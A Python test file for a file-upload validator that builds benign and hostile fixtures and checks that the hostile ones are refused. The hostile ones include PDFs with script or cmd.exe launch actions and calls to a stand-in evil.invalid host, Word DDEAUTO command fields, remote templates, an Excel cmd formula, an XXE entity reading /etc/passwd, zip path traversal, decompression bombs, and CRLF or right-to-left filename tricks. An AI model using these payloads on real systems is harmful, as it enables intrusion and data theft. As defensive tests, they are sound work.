"""A file is what it holds: fifty that are refused, each with words, and those that pass."""

import zipfile
import zlib
from base64 import b64encode
from contextlib import suppress
from io import BytesIO
from struct import pack

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from mappa.files import kind_of, safe_name
from tests.factories import a_pdf, a_picture

WORD = b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
EXCEL = WORD.replace(b"wordprocessingml.document", b"spreadsheetml.sheet")
EMAIL = (
    b"From: a@test.invalid\r\nTo: b@test.invalid\r\nDate: Mon, 3 Nov 2025 10:00:00 +0000\r\nSubject: x\r\n\r\nHello\r\n"
)


def office(parts, contents=WORD):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": contents, **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def links(*each, place="word/_rels/document.xml.rels"):
    return office({place: f"<Relationships>{''.join(each)}</Relationships>".encode()})


def linked(target, kind="hyperlink", **place):
    return links(
        f'<Relationship Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>', **place
    )


def worded(inside):
    return office({"word/document.xml": f'<w:document xmlns:w="w">{inside}</w:document>'.encode()})


def formula(words):
    return office({"xl/worksheets/sheet1.xml": f"<s><c><f>{words}</f></c></s>".encode()}, EXCEL)


TEMPLATE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.invalid/{}" TargetMode="{}"/>'
RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"


def pdf(change, **how):
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = BytesIO()
    document.save(out, **how)
    return out.getvalue()


def deep(document):
    inner = pikepdf.Dictionary(X=1)
    for _each in range(80):
        inner = pikepdf.Dictionary(X=inner)
    document.Root.Deep = inner


def attach(document):
    document.attachments["a.txt"] = b"hidden"


def hide_in_array(document):
    document.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(A=pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")]))]
    )


def opening(action):
    return pdf(lambda d: setattr(d.Root, "OpenAction", action))


def calling(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), URI="http://evil.invalid", **more)


def fetched_stream(document):
    document.Root.Fetched = document.make_stream(
        b"", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="http://evil.invalid")
    )


def chunk(name, data):
    return pack(">I", len(data)) + name + data + pack(">I", zlib.crc32(name + data))


def flood(width, height):
    head = chunk(b"IHDR", pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def row_of_pixels(width, height):
    """A PNG of few bytes that is all one side."""
    packer, row = zlib.compressobj(9), b"\0" * (1 + (width + 7) // 8)
    rows = b"".join(packer.compress(row * 1000) for _each in range(height // 1000)) + packer.flush()
    head = chunk(b"IHDR", pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def nested(depth):
    parts = [f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n'.encode() for n in range(depth)]
    return EMAIL.partition(b"\r\n\r\n")[0] + b"\r\n" + b"".join(parts)


def lzma(parts):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as archive:
        for name, content in {"[Content_Types].xml": WORD, **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def email_with(disposition="", kind="application/octet-stream", name="", content=b"AAAA"):
    head = EMAIL.replace(b"\r\n\r\nHello", b'\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b')
    shown = f"Content-Type: {kind}{name}\r\n{disposition}\r\n".encode()
    return head + shown + b"\r\n" + content + b"\r\n--b--\r\n"


SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
GOOD = {
    "a pdf": ("a.pdf", a_pdf()),
    "a pdf that opens at a page": (
        "a.pdf",
        pdf(lambda d: setattr(d.Root, "OpenAction", pikepdf.Array([0, pikepdf.Name.Fit]))),
    ),
    "a word file": ("a.docx", office({"word/document.xml": b"<w/>"})),
    "a word file with a link": ("a.docx", linked("https://www.gov.uk")),
    "an excel file": ("a.xlsx", office({"xl/workbook.xml": b"<w/>"}, EXCEL)),
    "a png": ("a.png", a_picture("PNG")),
    "a jpeg": ("a.jpg", a_picture()),
    "a jpeg by its other ending": ("a.JPEG", a_picture()),
    "a text": ("a.txt", "Rhif y tŷ: 7 – iawn\r\n".encode()),
    "an empty line": ("a.txt", b"\n"),
    "an email": ("a.eml", EMAIL),
    "an email with a picture": (
        "a.eml",
        email_with(
            "Content-Disposition: inline\r\nContent-Transfer-Encoding: base64",
            "image/png",
            '; name="logo.png"',
            b64encode(a_picture("PNG")),
        ),
    ),
    "a pdf that opens at a page by an action": (
        "a.pdf",
        opening(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]))),
    ),
    "a pdf with a link to click": (
        "a.pdf",
        pdf(lambda d: setattr(d.pages[0], "Annots", pikepdf.Array([pikepdf.Dictionary(A=calling("URI"))]))),
    ),
    "a word file with a link of that name": ("a.docx", worded(RUN.format('HYPERLINK "https://www.gov.uk/link/dde"'))),
    "a word file about fields": ("a.docx", worded("<w:t>DDEAUTO and INCLUDEPICTURE are fields.</w:t>")),
    "an excel file with formulas": ("a.xlsx", formula("IF(A1=&quot;a | b&quot;,SUM(B1:B9),'a b'!C1)")),
}
BAD = {
    "an empty file": ("a.pdf", b"", "empty"),
    "no ending": ("report", a_pdf(), "one of these"),
    "another ending": ("a.svg", b"<svg/>", "one of these"),
    "a program": ("a.exe", b"MZ\x90\0", "one of these"),
    "a program called pdf": ("a.pdf", b"MZ\x90\0" + b"\0" * 200, "something else"),
    "a program called text": ("a.txt", b"MZ plain enough", "something else"),
    "a script called text": ("a.txt", b"#!/bin/sh\nrm -rf /", "something else"),
    "a pdf called word": ("a.docx", a_pdf(), "something else"),
    "a pdf called png": ("a.png", a_pdf(), "something else"),
    "a png called jpeg": ("a.jpg", a_picture("PNG"), "something else"),
    "a word file called excel": ("a.xlsx", office({}), "something else"),
    "a zip called word": ("a.docx", office({}, b"<Types/>"), "something else"),
    "an old word file": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "something else"),
    "a page of the web called pdf": ("a.pdf", b"<html><script>1</script>" + a_pdf(), "not a PDF file"),
    "a picture before a pdf": ("a.pdf", b"GIF89a" + a_pdf(), "something else"),
    "words called png": ("a.png", b"<svg onload='alert(1)'/>", "not a PNG file"),
    "a broken pdf": ("a.pdf", b"%PDF-1.7 garbage", "damaged"),
    "a pdf cut short": ("a.pdf", a_pdf()[:60], "damaged"),
    "a pdf with a password": (
        "a.pdf",
        pdf(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")),
        "password",
    ),
    "a pdf locked without one": (
        "a.pdf",
        pdf(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="")),
        "protected",
    ),
    "a pdf that runs": ("a.pdf", pdf(lambda d: setattr(d.Root, "OpenAction", SCRIPT)), "scripts"),
    "a pdf that launches": ("a.pdf", pdf(hide_in_array), "scripts"),
    "a pdf with a file in it": ("a.pdf", pdf(attach), "scripts"),
    "a pdf with a form that runs": (
        "a.pdf",
        pdf(lambda d: setattr(d.Root, "AcroForm", pikepdf.Dictionary(XFA="x"))),
        "scripts",
    ),
    "a pdf that calls when it is opened": ("a.pdf", opening(calling("URI")), "scripts"),
    "a pdf that goes and then calls": ("a.pdf", opening(calling("GoTo", Next=calling("URI"))), "scripts"),
    "a pdf that calls at its first page": (
        "a.pdf",
        pdf(lambda d: setattr(d.pages[0], "AA", pikepdf.Dictionary(O=calling("URI")))),
        "scripts",
    ),
    "a pdf with a thread elsewhere": (
        "a.pdf",
        pdf(lambda d: setattr(d.Root, "A", pikepdf.Array([calling("Thread", F="x.pdf")]))),
        "scripts",
    ),
    "a pdf with a stream elsewhere": ("a.pdf", pdf(fetched_stream), "scripts"),
    "a pdf with an endless list": (
        "a.pdf",
        pdf(lambda d: setattr(d.Root, "X", pikepdf.Array([1] * 200_001))),
        "intricate",
    ),
    "a pdf too deep": ("a.pdf", pdf(deep), "intricate"),
    "a pdf without a page": ("a.pdf", pdf(lambda d: d.pages.__delitem__(0)), "at least 1 page"),
    "a macro": ("a.docx", office({"word/vbaProject.bin": b"x"}), "macros"),
    "a macro by its kind": (
        "a.docx",
        office({}, WORD.replace(b"document.main", b"document.macroEnabled.main")),
        "macros",
    ),
    "a word file with macros by its name": ("a.docm", office({}), "one of these"),
    "a file inside": ("a.docx", office({"word/embeddings/oleObject1.bin": b"x"}), "macros"),
    "a program inside": ("a.docx", office({"word/media/a.exe": b"MZ"}), "macros"),
    "a bomb": ("a.docx", office({"word/document.xml": b"0" * (60 * 2**20)}), "far more"),
    "a bomb of many parts": ("a.docx", office({f"f{n}": b"" for n in range(4100)}), "far more"),
    "a way out": ("a.docx", office({"../../etc/cron.d/x": b"x"}), "as Office does"),
    "a whole path": ("a.docx", office({"/etc/passwd": b"x"}), "as Office does"),
    "an entity": (
        "a.docx",
        office({"word/a.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'}),
        "as Office does",
    ),
    "an entity in other letters": ("a.docx", office({"word/a.xml": "<!DOCTYPE a>".encode("utf-16")}), "as Office does"),
    "a template from elsewhere": ("a.docx", linked("http://evil.invalid/t.dotm", "attachedTemplate"), "fetches"),
    "a picture from elsewhere": ("a.docx", linked("http://evil.invalid/i.png", "image"), "fetches"),
    "a template by the name of a link": (
        "a.docx",
        links(TEMPLATE.format("relationships/hyperlink.dotm", "External")),
        "fetches",
    ),
    "a template in other spelling": (
        "a.docx",
        links('<r:Relationship xmlns:r="r" Type="x/attachedTemplate" A="&gt;" TargetMode="Exter&#110;al"/>'),
        "fetches",
    ),
    "a template in other letters": (
        "a.docx",
        office({"word/_rels/a.rels": TEMPLATE.format("t", "External").encode("utf-16")}),
        "fetches",
    ),
    "a template called a link": (
        "a.docx",
        linked("http://evil.invalid/t", place="word/_rels/settings.xml.rels"),
        "fetches",
    ),
    "another document within": ("a.docx", links('<Relationship Type="x/aFChunk" Target="a.bin"/>'), "fetches"),
    "links that are no xml": ("a.docx", office({"word/_rels/a.rels": b"<Relationship " * 70_000}), "as Office does"),
    "a command in a field": ("a.docx", worded(RUN.format("DDEAUTO c:\\cmd.exe")), "fetches"),
    "a command cut in two": ("a.docx", worded(RUN.format(" DDE") + RUN.format("AUTO c:\\cmd.exe")), "fetches"),
    "a command before the next field": (
        "a.docx",
        worded(RUN.format("DDE c:\\cmd.exe") + '<w:fldChar w:fldCharType="separate"/>'),
        "fetches",
    ),
    "a picture in a field": ("a.docx", worded(RUN.format('INCLUDEPICTURE "http://evil.invalid"')), "fetches"),
    "a text in a simple field": ("a.docx", worded('<w:fldSimple w:instr="INCLUDETEXT x"/>'), "fetches"),
    "a formula that fetches": ("a.xlsx", formula("_xlfn.WEBSERVICE(A1)"), "fetches"),
    "a formula that starts a program": ("a.xlsx", formula("cmd|'/c calc'!A0"), "fetches"),
    "a link to another program": ("a.xlsx", office({"xl/a.xml": b"<x><ddeLink/></x>"}, EXCEL), "fetches"),
    "data from elsewhere": ("a.xlsx", office({"xl/connections.xml": b"<x/>"}, EXCEL), "macros"),
    "an old file inside": ("a.docx", office({"word/media/ole1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 99}), "macros"),
    "an archive inside": ("a.docx", office({"word/media/image1.png": b"PK\x03\x04"}), "macros"),
    "a page of the web inside": ("a.docx", office({"word/afchunk.html": b"<script/>"}), "macros"),
    "a template inside": ("a.docx", office({"word/evil.dotm": b"x"}), "macros"),
    "parts packed as no Office does": ("a.docx", lzma({"word/document.xml": b"<w/>"}), "as Office does"),
    "a damaged word file": ("a.docx", office({"word/document.xml": b"<w/>"})[:-30], "damaged"),
    "half a png": ("a.png", a_picture("PNG")[:60], "damaged"),
    "half a jpeg": ("a.jpg", a_picture()[:400], "damaged"),
    "a flood of pixels": ("a.png", flood(60000, 60000), "40 million"),
    "a picture of one row": ("a.png", row_of_pixels(1, 3_000_000), "20,000 pixels"),
    "a picture of one line": ("a.png", row_of_pixels(21_000, 1000), "20,000 pixels"),
    "a text with a NUL": ("a.txt", b"a\0b", "nobody types"),
    "a text in other letters": ("a.txt", "caf\xe9".encode("latin-1"), "UTF-8"),
    "a text cut in a letter": ("a.txt", "ŷ".encode()[:1], "UTF-8"),
    "no email": ("a.eml", b"Hello", "saved email"),
    "an email with a file": ("a.eml", email_with("Content-Disposition: attachment; filename=a.exe"), "holds files"),
    "an email with a named page": ("a.eml", email_with("", "text/html", '; name="a.hta"'), "holds files"),
    "an email with another": ("a.eml", email_with("", "message/rfc822"), "holds files"),
    "an email with a program called a picture": (
        "a.eml",
        email_with(
            "Content-Transfer-Encoding: base64", "image/png", '; name="invoice.exe"', b64encode(a_picture("PNG"))
        ),
        "holds files",
    ),
    "an email with a program in a picture": ("a.eml", email_with("", "image/png", "", b"MZ\x90"), "holds files"),
    "an email with a file among its words": ("a.eml", EMAIL + b"begin 644 evil.exe\n#0V%T\n`\nend\n", "holds files"),
    "an email of parts within parts": ("a.eml", nested(3000), "damaged"),
    "an email with headers of nobody": (
        "a.eml",
        EMAIL.replace(b"\r\n\r\n", b"\r\nContent-Type: text/html; name*0*=x; name*1=y; name*=z''\xff\r\n\r\n"),
        "damaged",
    ),
    "an email with a NUL": ("a.eml", EMAIL + b"\0", "saved email"),
    "a long email": ("a.eml", EMAIL + b"x" * (5 * 2**20), "5 MB"),
}


@pytest.mark.parametrize(("name", "content"), GOOD.values(), ids=GOOD)
def test_what_is_honest_passes_and_is_left_at_its_beginning(name, content):
    file = BytesIO(content)

    kind = kind_of(file, name)

    assert name.rpartition(".")[2].lower() in kind.endings
    assert file.tell() == 0


@pytest.mark.parametrize(("name", "content", "words"), BAD.values(), ids=BAD)
def test_what_is_not_is_refused_in_words(name, content, words):
    with pytest.raises(ValidationError) as refusal:
        kind_of(BytesIO(content), name)

    assert words in refusal.value.message_dict["file"][0]


def test_a_picture_of_the_largest_camera_passes():
    out = BytesIO()
    Image.new("1", (8000, 5000)).save(out, "PNG")

    assert kind_of(out, "a.png").is_picture


def test_a_list_of_objects_that_unpacks_to_everything_is_refused():
    packed = zlib.compress(b" " * (300 * 2**20), 9)
    head = b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    body = head + packed + b"\nendstream\nendobj\ntrailer\n<</Root 5 0 R/Size 6>>\nstartxref\n0\n%%EOF"

    with pytest.raises(ValidationError):
        kind_of(BytesIO(body), "a.pdf")


# Also what is refused for one thing only: a change may bring it past that.
HONEST = [value for value in GOOD.values() if len(value[1]) < 20_000]
HONEST += [BAD[each][:2] for each in ("an email with a named page", "parts packed as no Office does")]


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from(HONEST), st.lists(st.tuples(st.integers(0, 20_000), st.integers(0, 255)), max_size=12), st.data()
)
def test_no_file_whatever_is_wrong_with_it_ends_in_a_fault(honest, changes, data):
    name, content = honest
    broken = bytearray(content)
    for place, byte in changes:
        broken[place % len(broken)] = byte
    end = data.draw(st.integers(0, len(broken)))

    with suppress(ValidationError):
        kind_of(BytesIO(bytes(broken[:end]) if end % 3 == 0 else bytes(broken)), name)


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\bob\\report.pdf", "report.pdf"),
        ("/etc/shadow", "shadow"),
        ("a\x00.pdf", "a.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("a." + "b" * 300, "a." + "b" * 10),
        (".htaccess", "htaccess"),
        ("", "file"),
        ("..", "file"),
        ("\x00", "file"),
        ("Adroddiad Tŷ'r Ŵyl.pdf", "Adroddiad Tŷ'r Ŵyl.pdf"),
    ],
)
def test_a_name_is_only_a_name(given_name, kept):
    assert safe_name(given_name) == kept


@given(st.text())
def test_no_name_holds_a_way_or_a_sign_that_steers(text):
    name = safe_name(text)

    assert name
    assert len(name) <= 120
    assert not {"/", "\\", "\x00", "\n", "\r"} & set(name)
    assert not name.startswith(".")
